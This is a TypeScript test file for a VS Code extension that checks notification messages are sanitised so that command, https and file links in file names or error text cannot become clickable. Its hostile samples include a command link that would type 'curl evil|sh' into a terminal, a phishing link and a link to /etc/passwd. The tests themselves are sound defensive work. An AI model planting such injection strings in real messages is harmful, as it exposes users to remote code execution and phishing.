/**
 * VS Code notifications turn `[label](command:…)` (and https:, file:) in their message into links, and a
 * command link runs its command when clicked. Messages carry file names, log values and server errors, so
 * every notification message of the extension goes through `notificationSafe` (src/core/text-safe.ts).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { notificationSafe } from '../../src/core/text-safe';

/** VS Code's own parser of notification links (vs/base/common/linkedText.ts, `LINK_REGEX`), for the links it finds. */
const LINK_REGEX = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const links = (s: string) => [...s.matchAll(LINK_REGEX)].map((m) => m[2]);

test('a file name or error text with a command, https or file link makes no link in a notification, and reads the same', () => {
  const hostile = [
    'SOC Analytics: no connection log in “[Click to fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)”.',
    'cannot write /tmp/[x](https://evil.example/phish): EACCES',
    '[a](file:///etc/passwd "title") and [b](command:x \'t\')',
    'nested [[a](command:x)](command:y) ]]((',
  ];
  for (const m of hostile) {
    assert.ok(links(m).length > 0, `the sample has a link: ${m}`);
    const safe = notificationSafe(m);
    assert.deepEqual(links(safe), [], safe);
    assert.equal(safe.replace(/\] \(/g, ']('), m.replace(/\] \(/g, ']('), 'only a space after "]" before "(" changes');
  }
  for (const plain of ['SOC Analytics: 3 unparsed lines (2 problems)', 'a [bracket] (and a parenthesis)', '']) assert.equal(notificationSafe(plain), plain);
});

test('every notification the extension shows passes its message through notificationSafe (or is a fixed text)', () => {
  const root = resolve(__dirname, '../../../src/extension');
  const files: string[] = [];
  const walk = (d: string) => {
    for (const n of readdirSync(d)) {
      const p = join(d, n);
      if (statSync(p).isDirectory()) walk(p);
      else if (p.endsWith('.ts')) files.push(p);
    }
  };
  walk(root);
  const bad: string[] = [];
  let calls = 0;
  for (const f of files) {
    const src = readFileSync(f, 'utf8');
    for (const m of src.matchAll(/\.show(?:Information|Warning|Error)Message\)?\(\s*/g)) {
      calls++;
      const rest = src.slice(m.index! + m[0].length);
      // the first argument: a fixed text (no interpolation), or notificationSafe(…)
      if (rest.startsWith('notificationSafe(') || /^'[^'\n]*'\s*[,)]/.test(rest) || /^`[^`$]*`\s*[,)]/.test(rest)) continue;
      bad.push(`${f.slice(root.length + 1)}: ${rest.slice(0, 60).replace(/\s+/g, ' ')}`);
    }
    // progress notifications: their title and messages are notification text too
    for (const m of src.matchAll(/ProgressLocation\.Notification, title: (?!notificationSafe\()([^,]+),/g)) {
      if (/^`[^`$]*`$/.test(m[1]) || /^'[^']*'$/.test(m[1])) continue;
      bad.push(`${f.slice(root.length + 1)}: progress title ${m[1]}`);
    }
  }
  assert.ok(calls >= 40, `found ${calls} notification calls`);
  assert.deepEqual(bad, []);
});
